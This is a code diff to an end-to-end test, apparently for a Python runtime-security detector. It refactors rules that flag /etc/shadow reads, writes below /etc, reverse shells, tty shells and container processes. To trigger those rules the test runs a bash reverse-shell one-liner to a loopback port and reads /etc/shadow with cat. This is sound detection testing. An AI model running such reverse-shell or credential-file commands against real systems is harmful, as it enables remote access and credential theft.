@@ -12,15 +12,13 @@ from __future__ import annotations
 import os
 import secrets
 import shutil
-import socket
 import subprocess
-import threading
 from pathlib import Path
 
 import pytest
 
 from tests.drivers.conftest import requires_bpf
-from tests.drivers.live import MEMCG, by_rule, in_cgroup, run_pyfalco
+from tests.drivers.live import MEMCG, by_rule, in_cgroup, loopback_listener, run_pyfalco
 
 pytestmark = [pytest.mark.bpf, pytest.mark.root, pytest.mark.slow, requires_bpf]
 
@@ -29,28 +27,42 @@ MARK = f"pfe2e{os.getpid()}"
 RULES = f"""
 - rule: e2e shadow read
   desc: an untrusted program reads /etc/shadow
-  condition: evt.type in (open, openat, openat2) and evt.is_open_read=true and fd.name=/etc/shadow and proc.name=cat
-  output: "shadow read (proc.name=%proc.name proc.pname=%proc.pname fd.name=%fd.name user.name=%user.name container.id=%container.id)"
+  condition: >
+    evt.type in (open, openat, openat2) and evt.is_open_read=true and fd.name=/etc/shadow
+    and proc.name=cat
+  output: >
+    shadow read (proc.name=%proc.name proc.pname=%proc.pname fd.name=%fd.name
+    user.name=%user.name container.id=%container.id)
   priority: WARNING
 - rule: e2e write below etc
   desc: a file opened for writing below /etc
-  condition: evt.type in (open, openat, openat2) and evt.is_open_write=true and fd.directory=/etc and fd.name contains {MARK}
+  condition: >
+    evt.type in (open, openat, openat2) and evt.is_open_write=true and fd.directory=/etc
+    and fd.name contains {MARK}
   output: "write below etc (proc.name=%proc.name fd.name=%fd.name user.name=%user.name)"
   priority: ERROR
 - rule: e2e reverse shell
   desc: bash connecting to a listener
   condition: evt.type=connect and evt.dir=< and proc.name=bash and fd.sip=127.0.0.1
-  output: "reverse shell (proc.name=%proc.name proc.pname=%proc.pname fd.sip=%fd.sip fd.sport=%fd.sport fd.name=%fd.name)"
+  output: >
+    reverse shell (proc.name=%proc.name proc.pname=%proc.pname fd.sip=%fd.sip
+    fd.sport=%fd.sport fd.name=%fd.name)
   priority: WARNING
 - rule: e2e shell with tty
   desc: a shell started on a terminal
-  condition: evt.type in (execve, execveat) and evt.dir=< and proc.name=bash and proc.tty!=0 and proc.cmdline contains {MARK}tty
+  condition: >
+    evt.type in (execve, execveat) and evt.dir=< and proc.name=bash and proc.tty!=0
+    and proc.cmdline contains {MARK}tty
   output: "tty shell (proc.name=%proc.name proc.tty=%proc.tty proc.cmdline=%proc.cmdline)"
   priority: NOTICE
 - rule: e2e container process
   desc: a process in a container cgroup
-  condition: evt.type in (execve, execveat) and evt.dir=< and container.id!=host and proc.cmdline contains {MARK}ctr
-  output: "container process (proc.name=%proc.name container.id=%container.id proc.cmdline=%proc.cmdline)"
+  condition: >
+    evt.type in (execve, execveat) and evt.dir=< and container.id!=host
+    and proc.cmdline contains {MARK}ctr
+  output: >
+    container process (proc.name=%proc.name container.id=%container.id
+    proc.cmdline=%proc.cmdline)
   priority: NOTICE
 """
 
@@ -60,12 +72,14 @@ def _actions(port: int, docker_id: str, kube_id: str) -> None:
     target = Path(f"/etc/{MARK}.conf")
     subprocess.run(["sh", "-c", f"echo x > {target}"], check=True)
     target.unlink()
-    subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 <&- & sleep 0.5; kill %1"],
-                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=10)
+    shell = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 <&- & sleep 0.5; kill %1"
+    subprocess.run(["bash", "-c", shell], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                   check=False, timeout=10)
     subprocess.run(["script", "-qec", f"bash -c 'true {MARK}tty'", "/dev/null"],
                    stdout=subprocess.DEVNULL, check=False, timeout=10)
     in_cgroup(MEMCG / "docker" / docker_id, ["/bin/echo", f"{MARK}ctr-docker"])
-    pod = MEMCG / "kubepods" / "besteffort" / f"pod{secrets.token_hex(4)}-1111-2222-3333-444455556666"
+    pod_uid = f"{secrets.token_hex(4)}-1111-2222-3333-444455556666"
+    pod = MEMCG / "kubepods" / "besteffort" / f"pod{pod_uid}"
     try:
         in_cgroup(pod / kube_id, ["/bin/echo", f"{MARK}ctr-kube"])
     finally:
@@ -84,11 +98,7 @@ def alerts(tmp_path_factory):
         pytest.skip("`script` (util-linux) not installed")
     rules = tmp_path_factory.mktemp("e2e") / "rules.yaml"
     rules.write_text(RULES)
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen()
-    port = listener.getsockname()[1]
-    threading.Thread(target=lambda: [listener.accept() for _ in range(4)], daemon=True).start()
+    listener, port = loopback_listener()
     docker_id, kube_id = secrets.token_hex(32), secrets.token_hex(32)
     try:
         found, log = run_pyfalco(rules, lambda: _actions(port, docker_id, kube_id),
